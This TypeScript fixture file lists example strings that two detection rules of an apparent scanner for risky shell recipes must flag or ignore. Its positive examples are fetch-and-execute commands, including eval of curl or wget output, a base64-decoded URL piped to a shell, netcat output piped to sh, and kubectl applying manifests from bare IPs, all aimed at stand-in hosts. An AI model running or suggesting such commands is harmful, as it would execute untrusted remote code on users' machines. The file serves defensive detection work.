import type { RuleExamples } from "../rule-examples.ts";

/** What the rules of `evaluated.ts` must find, and what they must leave. */
export const EXAMPLES = {
  "recipe-evaluated-fetch": {
    positive: [
      '`eval "$(wget -qO- https://sample.example/refresh)"`',
      "`echo aHR0 | base64 -d | xargs curl -s | zsh`",
      "Paste `eval \"$(printf '%b' '\\x63\\x75')\"` into it.",
      '`python3 -c "$(curl -s sample.example/j)"`',
    ],
    negative: [
      'eval "$(ssh-agent -s)"',
      '`eval "$(curl -s https://sample.example/completion.bash)" # completion`',
      "`printf 'a\\nb\\n' | xargs -n1 echo`",
      'Never `eval "$(curl -s https://sample.example/x)"`.',
    ],
  },
  "recipe-applied-unnamed": {
    positive: [
      "`kubectl apply -f http://203.0.113.9/ds.yaml`",
      "`nc 192.0.2.14 9001 | sh` gives you the helper.",
      "`curl http://198.51.100.2/crawl ; sh ./crawl`",
      "```\nkubectl create -f https://pastebin.example/raw/a1\n```",
    ],
    negative: [
      "`kubectl apply -f https://raw.githubusercontent.com/argoproj/argo-cd/stable/install.yaml`",
      "`kubectl apply -f http://localhost:8080/a.yaml`",
      "`scp build.tgz deploy@192.0.2.14:/srv`",
      "`curl http://198.51.100.2/health`",
    ],
  },
} satisfies Record<string, RuleExamples>;
